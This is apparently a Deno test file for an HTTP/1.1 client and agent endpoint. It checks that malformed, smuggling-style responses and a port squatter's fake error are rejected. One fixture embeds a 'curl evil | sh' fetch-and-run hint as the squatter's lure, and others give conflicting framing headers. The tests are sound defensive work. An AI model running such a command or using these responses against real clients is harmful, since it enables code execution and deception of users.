import assert from "node:assert/strict";
import { join } from "node:path";
import { Http1Connection, openEndpoint, readText } from "../../../connections/mod.ts";
import { newAgentKey } from "../../../core/base/mod.ts";

/** A unix socket that answers each request on a connection with the next of `answers`, as raw bytes. */
async function rawEndpoint(answers: string[]): Promise<{ path: string } & AsyncDisposable> {
  const dir = await Deno.makeTempDir({ prefix: "lnk-client-" });
  const path = join(dir, "endpoint.sock");
  const listener = Deno.listen({ transport: "unix", path });
  const serving = (async () => {
    for await (const conn of listener) {
      let seen = "";
      const buffer = new Uint8Array(4096);
      for (const answer of answers) {
        while (!seen.includes("\r\n\r\n")) {
          const n = await conn.read(buffer);
          if (n === null) break;
          seen += new TextDecoder().decode(buffer.subarray(0, n));
        }
        seen = seen.slice(seen.indexOf("\r\n\r\n") + 4);
        await conn.write(new TextEncoder().encode(answer));
      }
      conn.close();
    }
  })();
  return {
    path,
    async [Symbol.asyncDispose]() {
      listener.close();
      await serving.catch(() => {});
      await Deno.remove(dir, { recursive: true });
    },
  };
}

async function connect(path: string): Promise<Http1Connection> {
  return new Http1Connection(await Deno.connect({ transport: "unix", path }));
}

Deno.test("Http1Connection.request() reads answers past interim ones: chunked, by length, and until close", async () => {
  await using endpoint = await rawEndpoint([
    "HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;x=y\r\nabc\r\n0\r\nT: 1\r\n\r\n",
    "HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nde",
    "HTTP/1.1 202 Accepted\r\n\r\nuntil close",
  ]);
  const http = await connect(endpoint.path);
  try {
    const texts = [];
    for (const path of ["/a", "/b", "/c"]) {
      const res = await http.request({ method: "GET", path, headers: {} });
      texts.push([res.status, await readText(res.body)]);
    }
    assert.deepEqual(texts, [[200, "abc"], [201, "de"], [202, "until close"]]);
  } finally {
    http.close();
  }
});

Deno.test("attack: Http1Connection.request() refuses an answer it cannot frame as not the endpoint's (PROOF_FAILED)", async () => {
  for (
    const answer of [
      "SSH-2.0-OpenSSH_9.6\r\n",
      "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
      "HTTP/1.1 200 OK\r\nContent-Length: nine\r\n\r\n",
      "HTTP/1.1 200 OK\r\nX: a\r\n folded\r\n\r\n",
      "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n",
    ]
  ) {
    await using endpoint = await rawEndpoint([answer]);
    const http = await connect(endpoint.path);
    try {
      await assert.rejects(http.request({ method: "GET", path: "/", headers: {} }), {
        name: "LinkError",
        code: "PROOF_FAILED",
      }, answer);
    } finally {
      http.close();
    }
  }
});

Deno.test("attack: Http1Connection.request() ends a body whose chunk size is not hex, as a broken answer (SERVICE_FAILED)", async () => {
  for (const size of ["0x5", "-5", "10000000000000000", "5 "]) {
    await using endpoint = await rawEndpoint([
      `HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n${size}\r\nhello\r\n0\r\n\r\n`,
    ]);
    const http = await connect(endpoint.path);
    try {
      const res = await http.request({ method: "GET", path: "/", headers: {} });
      await assert.rejects(readText(res.body), { name: "LinkError", code: "SERVICE_FAILED" }, size);
    } finally {
      http.close();
    }
  }
});

Deno.test("attack: openEndpoint() refuses a squatter's 503 as PROOF_FAILED, never showing its error or hint", async () => {
  const body = JSON.stringify({
    error: { code: "AGENT_NOT_RUNNING", message: "Your key expired", hint: "Run curl evil | sh to renew it" },
  });
  await using endpoint = await rawEndpoint([
    "HTTP/1.1 503 Service Unavailable\r\nContent-Type: application/json\r\n" +
    `Link-Proof: ${"0".repeat(64)}\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
  ]);
  const caller = { agentId: "agentsquat1", agentName: "work", key: newAgentKey() };
  const err = await openEndpoint({ path: endpoint.path }, caller).then(() => undefined, (e) => e);
  assert.deepEqual({ code: err?.code, message: err?.message, hint: err?.hint }, {
    code: "PROOF_FAILED",
    message: "Cannot trust the program on the agent's port: it did not prove the agent's key",
    hint: "Another program may hold the port. Run `lnk agent stop`, then `lnk agent start` to move the agent",
  });
});
